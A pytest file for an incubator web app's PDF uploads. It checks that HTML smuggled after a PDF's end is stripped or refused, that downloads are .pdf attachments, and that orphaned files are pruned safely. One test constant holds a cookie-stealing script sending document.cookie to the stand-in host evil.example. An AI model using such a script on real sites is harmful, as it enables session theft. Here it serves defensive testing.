"""Uploaded PDFs: only the PDF is kept, downloads are attachments named .pdf, a file no record refers to any more
is deleted once that is committed (and kept when it is not), and `flask uploads prune` removes old orphans."""

from __future__ import annotations

import io
import os
import re
import time
from pathlib import Path
from urllib.parse import unquote

import pytest
from pypdf import PdfReader, PdfWriter

from incubator import uploads
from incubator.applications.models import ApplicationDocument, RoundDocument
from incubator.auth.enums import Role
from incubator.outcomes.models import GraduationOutcome
from tests.helpers import blank_pdf, post_form

HTML = b"<html><body><script>document.location='https://evil.example/'+document.cookie</script></body></html>\n"




def _updated(pdf: bytes) -> bytes:
    """The PDF with an incremental update appended (a new title): a second revision, a second %%EOF."""
    writer = PdfWriter(io.BytesIO(pdf), incremental=True)
    writer.add_metadata({"/Title": "Bản sửa đổi"})
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _files(app, kind: str) -> set[str]:
    """The names of the files the store holds (the database by default), as another request sees them."""
    from incubator.extensions import db

    db.session.commit()
    return {entry.name for entry in uploads.store().entries(kind)}


def _held(kind: str, name: str) -> bool:
    return uploads.exists(kind, name)


def _stored(kind: str, name: str) -> bytes | None:
    return uploads.read(kind, name)


# ---- Two doors in: a founder's application document, staff's evidence of an outcome ----------------------

@pytest.fixture
def founder(make, login_as):
    """A founder with a draft application to a round that asks for one document."""
    client, user = login_as(Role.FOUNDER)
    company = make.company(name="Công ty TNHH Ươm Mầm Số")
    make.member(company=company, user=user)
    application = make.application(company=company, created_by=user)
    document = make._save(RoundDocument(round=application.round, name_vi="Kế hoạch kinh doanh",
                                        name_en="Business plan"))
    return {"client": client, "application": application, "document": document}


@pytest.fixture
def staff(login_as):
    return login_as(Role.STAFF)[0]


def _upload_document(s, content: bytes, name: str = "ke-hoach.pdf"):
    application_id = s["application"].id
    url = f"/applications/{application_id}/documents/{s['document'].id}"
    return post_form(s["client"], url, {"file": (io.BytesIO(content), name)},
                     token_from=f"/applications/{application_id}/edit", content_type="multipart/form-data")


def _slot(db, s) -> ApplicationDocument | None:
    db.session.expire_all()
    return db.session.query(ApplicationDocument).filter_by(application_id=s["application"].id).one_or_none()


def _download_document(s):
    return s["client"].get(f"/applications/{s['application'].id}/documents/{s['document'].id}")


def _new_outcome(staff, company, content: bytes, name: str = "hop-dong.pdf"):
    url = f"/register/{company.id}/outcomes/new"
    return post_form(staff, url, {"decision": "graduated", "decided_on": "2025-06-30", "serves_economy": "y",
                                  "evidence_pdf": (io.BytesIO(content), name)},
                     token_from=url, content_type="multipart/form-data")


def _edit_outcome(staff, outcome, **data):
    url = f"/register/outcomes/{outcome.id}/edit"
    return post_form(staff, url, {"decision": "graduated", "decided_on": "2025-06-30", "serves_economy": "y",
                                  "version": outcome.version_id, **data},
                     token_from=url, content_type="multipart/form-data")


def _outcome(db) -> GraduationOutcome:
    db.session.expire_all()
    return db.session.query(GraduationOutcome).one()


def _upload_through(door, s, content: bytes, name: str):
    """Upload through one of the two doors; return (kind, stored name, the download response)."""
    db, make, client = s["db"], s["make"], s["client"]
    if door == "application document":
        assert _upload_document(s["founder"], content, name).status_code == 302
        slot = _slot(db, s["founder"])
        return "applications", slot.stored_name, _download_document(s["founder"])
    response = _new_outcome(client, make.company(), content, name)
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    outcome = _outcome(db)
    return "evidence", outcome.evidence_file, client.get(f"/register/outcomes/{outcome.id}/evidence")


DOORS = ["application document", "outcome evidence"]


@pytest.fixture
def doors(founder, staff, make, db):
    return {"founder": founder, "client": staff, "make": make, "db": db}


# ---- Only the PDF is stored -------------------------------------------------------------------------------

@pytest.mark.parametrize("door", DOORS)
def test_html_appended_after_the_eof_of_a_pdf_is_neither_stored_nor_served(door, doors, app):
    pdf = blank_pdf()
    kind, stored, download = _upload_through(door, doors, pdf + HTML, "bao-cao.pdf")
    assert _stored(kind, stored) == pdf
    assert download.status_code == 200 and download.data == pdf
    assert b"<html" not in download.data


@pytest.mark.parametrize("door", DOORS)
@pytest.mark.parametrize("tail", [b"%%EOF\n", b"startxref\n9\n%%EOF\n"])
def test_html_carrying_its_own_eof_after_a_pdf_is_refused(door, doors, app, tail):
    """A fake end does not make the page part of the PDF: neither a bare ``%%EOF``, nor one with a startxref
    pointing back at the real cross-reference (the file still opens, but what comes between is no PDF)."""
    pdf = blank_pdf()
    xref = pdf[pdf.rindex(b"startxref") + len(b"startxref"):].split()[0]  # where the real table is
    content = pdf + HTML + tail.replace(b"9", xref)
    if b"startxref" in tail:
        assert len(PdfReader(io.BytesIO(content)).pages) == 1  # it opens: only the check of its parts refuses it
    if door == "application document":
        response = _upload_document(doors["founder"], content, "bao-cao.pdf")
        assert response.status_code == 303
        assert _slot(doors["db"], doors["founder"]) is None
        page = doors["founder"]["client"].get(response.headers["Location"]).get_data(as_text=True)
    else:
        response = _new_outcome(doors["client"], doors["make"].company(), content, "bao-cao.pdf")
        assert response.status_code == 400
        assert doors["db"].session.query(GraduationOutcome).count() == 0
        page = response.get_data(as_text=True)
    assert "Không đọc được tệp này dưới dạng tài liệu PDF." in page


@pytest.mark.parametrize("door", DOORS)
def test_a_pdf_with_an_incremental_update_is_accepted_whole(door, doors, app):
    updated = _updated(blank_pdf())
    assert updated.count(b"%%EOF") == 2
    kind, stored, download = _upload_through(door, doors, updated + b"\r\n\x00\x00  \n", "da-sua.pdf")
    assert _stored(kind, stored) == updated  # the padding after the last %%EOF dropped
    assert download.data == updated
    assert PdfReader(io.BytesIO(download.data)).metadata.title == "Bản sửa đổi"  # the last revision counts


# ---- Downloads are attachments named .pdf -----------------------------------------------------------------

@pytest.mark.parametrize("door", DOORS)
@pytest.mark.parametrize(("uploaded_as", "saved_as", "ascii_name"), [
    ("Kế hoạch đợt 1.html", "Kế hoạch đợt 1.html.pdf", "Ke hoach dot 1.html.pdf"),
    ("Báo cáo tài chính.PDF", "Báo cáo tài chính.PDF", "Bao cao tai chinh.PDF"),
    # macOS sends names decomposed (NFD): the browser gets the composed form
    ("Ho\u0302\u0300 so\u031b đa\u0302\u0300u tu\u031b.pdf", "Hồ sơ đầu tư.pdf", "Ho so dau tu.pdf"),
    ("ke-hoach; ban 2", "ke-hoach; ban 2.pdf", "ke-hoach; ban 2.pdf"),
])
def test_every_upload_is_downloaded_as_an_attachment_with_a_pdf_name(door, uploaded_as, saved_as, ascii_name,
                                                                     doors):
    if door == "outcome evidence" and not uploaded_as.lower().endswith(".pdf"):
        # The evidence form takes only names ending in .pdf; older records hold others.
        _upload_through(door, doors, blank_pdf(), "tam.pdf")
        outcome = _outcome(doors["db"])
        outcome.evidence_filename = uploaded_as
        doors["db"].session.commit()
        download = doors["client"].get(f"/register/outcomes/{outcome.id}/evidence")
    else:
        download = _upload_through(door, doors, blank_pdf(), uploaded_as)[2]
    assert download.status_code == 200
    assert download.mimetype == "application/pdf"
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    disposition = download.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    utf8 = re.search(r"filename\*=UTF-8''([^;\s]+)", disposition)
    assert (unquote(utf8.group(1)) if utf8 else None) == (saved_as if not saved_as.isascii() else None)
    plain = re.search(r'filename=("(?:[^"\\]|\\.)*"|[^;\s]+)', disposition).group(1)
    plain = plain[1:-1].replace('\\"', '"').replace("\\\\", "\\") if plain.startswith('"') else plain
    assert plain == (saved_as if saved_as.isascii() else ascii_name)
    assert plain.lower().endswith(".pdf")


def test_a_record_whose_name_has_no_pdf_ending_is_still_downloaded_as_pdf(doors, make, db, app):
    """Files stored by earlier versions kept any name: the browser is given one ending in .pdf."""
    _upload_through("outcome evidence", doors, blank_pdf(), "hop-dong.pdf")
    outcome = _outcome(db)
    outcome.evidence_filename = "hop-dong.exe"
    db.session.commit()
    download = doors["client"].get(f"/register/outcomes/{outcome.id}/evidence")
    assert download.headers["Content-Disposition"] == 'attachment; filename=hop-dong.exe.pdf'
    outcome.evidence_filename = None
    db.session.commit()
    download = doors["client"].get(f"/register/outcomes/{outcome.id}/evidence")
    assert download.headers["Content-Disposition"] == "attachment; filename=evidence.pdf"


# ---- Files no record refers to are deleted after the commit -----------------------------------------------

def test_a_replaced_application_document_is_deleted_from_disk_after_the_request_commits(founder, db, app):
    assert _upload_document(founder, blank_pdf(), "ban-1.pdf").status_code == 302
    first = _slot(db, founder).stored_name
    assert _held("applications", first)
    assert _upload_document(founder, blank_pdf(), "ban-2.pdf").status_code == 302
    second = _slot(db, founder).stored_name
    assert second != first
    assert not _held("applications", first)
    assert _held("applications", second)
    assert _download_document(founder).status_code == 200


def test_a_replaced_document_is_kept_when_the_request_fails_and_the_new_file_is_not_left_behind(
        founder, db, app, monkeypatch):
    assert _upload_document(founder, blank_pdf(), "ban-1.pdf").status_code == 302
    first = _slot(db, founder).stored_name
    before = _files(app, "applications")

    def broken(*args, **kwargs):  # fails after the new file is written and the old one dropped in the session
        raise RuntimeError("the request fails late")

    monkeypatch.setattr("incubator.applications.application_views.flash", broken)
    response = _upload_document(founder, blank_pdf(), "ban-2.pdf")
    assert response.status_code == 500
    assert _slot(db, founder).stored_name == first
    assert _held("applications", first)
    assert _files(app, "applications") == before  # the new file's record was rolled back: the file too
    monkeypatch.undo()
    assert _download_document(founder).data.startswith(b"%PDF-")


def test_a_replaced_document_is_kept_when_the_service_fails_after_dropping_it(founder, db, app, monkeypatch):
    assert _upload_document(founder, blank_pdf(), "ban-1.pdf").status_code == 302
    first = _slot(db, founder).stored_name

    def broken(*args, **kwargs):
        raise RuntimeError("the audit log is unavailable")

    monkeypatch.setattr("incubator.applications.services.audit.record", broken)
    assert _upload_document(founder, blank_pdf(), "ban-2.pdf").status_code == 500
    assert _slot(db, founder).stored_name == first
    assert _held("applications", first)


def test_replaced_and_removed_evidence_pdfs_are_deleted_from_disk(staff, make, db, app):
    assert _new_outcome(staff, make.company(), blank_pdf(), "ban-1.pdf").status_code == 302
    first = _outcome(db).evidence_file
    response = _edit_outcome(staff, _outcome(db), evidence_pdf=(io.BytesIO(blank_pdf()), "ban-2.pdf"))
    assert response.status_code == 302
    second = _outcome(db).evidence_file
    assert not _held("evidence", first) and _held("evidence", second)
    assert _edit_outcome(staff, _outcome(db), remove_evidence_pdf="y").status_code == 302
    assert _outcome(db).evidence_file is None
    assert not _held("evidence", second)


def test_a_refused_edit_keeps_the_evidence_pdf(staff, make, db, app):
    assert _new_outcome(staff, make.company(), blank_pdf()).status_code == 302
    outcome = _outcome(db)
    stale = outcome.version_id
    assert _edit_outcome(staff, outcome, note="Đã ký hợp đồng").status_code == 302
    outcome = _outcome(db)
    response = _edit_outcome(staff, outcome, version=stale, remove_evidence_pdf="y")  # changed by someone else
    assert response.status_code == 409
    assert _held("evidence", _outcome(db).evidence_file)


def test_deleting_a_record_deletes_its_file_with_the_commit_not_before(staff, make, db, app):
    assert _new_outcome(staff, make.company(), blank_pdf()).status_code == 302
    outcome = _outcome(db)
    name = outcome.evidence_file
    db.session.delete(outcome.company)  # the outcome goes with its company (ORM cascade)
    db.session.flush()
    assert _held("evidence", name)
    db.session.rollback()
    assert _held("evidence", name)
    db.session.delete(_outcome(db).company)
    db.session.commit()
    assert not _held("evidence", name)


def test_a_rolled_back_savepoint_keeps_its_file_and_the_outer_transaction_deletes_its_own(staff, make, db, app):
    for name in ("a.pdf", "b.pdf"):
        assert _new_outcome(staff, make.company(), blank_pdf(), name).status_code == 302
    first, second = db.session.query(GraduationOutcome).order_by(GraduationOutcome.id).all()
    first_name, second_name = first.evidence_file, second.evidence_file
    first.evidence_file = None  # dropped in the outer transaction
    db.session.flush()
    savepoint = db.session.begin_nested()
    second.evidence_file = None  # dropped in a savepoint that is rolled back
    db.session.flush()
    savepoint.rollback()
    with db.session.begin_nested():  # a savepoint released: nothing is deleted until the outer commit
        db.session.delete(first)
    assert _held("evidence", first_name)
    db.session.commit()
    assert not _held("evidence", first_name)
    assert _held("evidence", second_name)
    db.session.refresh(second)
    assert second.evidence_file == second_name


# ---- flask uploads prune ----------------------------------------------------------------------------------

@pytest.fixture
def instance(app, tmp_path, monkeypatch):
    """An instance folder of the test's own, so that prune sees only this test's files."""
    monkeypatch.setattr(app, "instance_path", str(tmp_path / "instance"))
    return Path(app.instance_path)


def _old(path: Path, content: bytes = b"%PDF-1.4 old\n%%EOF\n") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    two_days_ago = time.time() - 2 * 86400
    os.utime(path, (two_days_ago, two_days_ago))
    return path


@pytest.fixture
def folder(instance, founder, staff, make, db):
    """Files in use (one uploaded per kind, in the store), orphans in the store and in the folder of earlier
    versions, a recent orphan in that folder, and files prune must never touch."""
    assert _upload_document(founder, blank_pdf()).status_code == 302
    assert _new_outcome(staff, make.company(), blank_pdf()).status_code == 302
    uploads_folder = instance / "uploads"
    in_use = [("applications", _slot(db, founder).stored_name), ("evidence", _outcome(db).evidence_file)]
    orphans = [_old(uploads_folder / "applications" / ("a" * 32 + ".pdf")),
               _old(uploads_folder / "evidence" / ("0" * 32 + ".pdf"))]
    in_store = "1" * 32 + ".pdf"  # left in the store by bulk SQL that bypassed the ORM, say
    uploads.CheckedPdf(in_store, "cu.pdf", blank_pdf()).save("evidence")
    db.session.commit()
    recent = uploads_folder / "evidence" / ("b" * 32 + ".pdf")
    recent.write_bytes(b"%PDF-1.4 being saved\n%%EOF\n")
    outside = _old(instance / ("c" * 32 + ".pdf"))
    untouched = [_old(uploads_folder / "evidence" / "ghi-chu.pdf"),
                 _old(uploads_folder / "evidence" / ("d" * 32 + ".PDF")),
                 _old(uploads_folder / "khac" / ("e" * 32 + ".pdf")), _old(uploads_folder / "README.txt", b"notes")]
    link = uploads_folder / "evidence" / ("f" * 32 + ".pdf")
    link.symlink_to(outside)
    return {"in_use": in_use, "orphans": orphans, "in_store": in_store, "recent": recent, "outside": outside,
            "untouched": untouched, "link": link}


def test_prune_dry_run_lists_the_orphans_and_removes_nothing(runner, folder, instance):
    result = runner.invoke(args=["uploads", "prune", "--dry-run"])
    assert result.exit_code == 0, result.output
    for path in folder["orphans"]:
        assert f"would remove {path.parent.name}/{path.name}" in result.output
        assert path.is_file()
    assert f"would remove evidence/{folder['in_store']}" in result.output
    assert _held("evidence", folder["in_store"])
    assert "3 orphaned file(s)" in result.output and "would be removed" in result.output
    assert f"kept evidence/{folder['recent'].name}" in result.output
    assert "left alone evidence/ghi-chu.pdf" in result.output and "left alone khac" in result.output
    assert f"left alone evidence/{folder['link'].name}" in result.output
    for path in [folder["recent"], folder["outside"], *folder["untouched"]]:
        assert path.exists()
        assert path.name not in re.findall(r"would remove \S+/(\S+)", result.output)
    for kind, name in folder["in_use"]:
        assert _held(kind, name) and name not in result.output


def test_prune_removes_only_old_unreferenced_stored_files(runner, folder, founder, db):
    result = runner.invoke(args=["uploads", "prune"])
    assert result.exit_code == 0, result.output
    assert "3 orphaned file(s)" in result.output and "removed" in result.output
    for path in folder["orphans"]:
        assert not path.exists()
        assert f"removed {path.parent.name}/{path.name}" in result.output
    assert f"removed evidence/{folder['in_store']}" in result.output
    assert not _held("evidence", folder["in_store"])
    for path in [folder["recent"], folder["outside"], *folder["untouched"]]:
        assert path.exists(), path
    for kind, name in folder["in_use"]:
        assert _held(kind, name)
    assert folder["link"].is_symlink() and folder["outside"].is_file()  # neither the link nor its target
    assert _download_document(founder).status_code == 200
    again = runner.invoke(args=["uploads", "prune"])
    assert again.exit_code == 0 and "0 orphaned file(s)" in again.output


def test_prune_reports_records_whose_file_is_missing(runner, founder, instance, db):
    import sqlalchemy as sa

    from incubator.uploads.stores import StoredFile

    assert _upload_document(founder, blank_pdf()).status_code == 302
    stored = _slot(db, founder).stored_name
    db.session.execute(sa.delete(StoredFile).where(StoredFile.name == stored))  # bulk SQL: nothing follows it
    db.session.commit()
    result = runner.invoke(args=["uploads", "prune", "--dry-run"])
    assert result.exit_code == 0
    assert f"missing applications/{stored}" in result.output


def test_prune_with_no_file_anywhere_says_there_is_nothing_to_do(runner, instance):
    result = runner.invoke(args=["uploads", "prune"])
    assert result.exit_code == 0
    assert "nothing to prune" in result.output
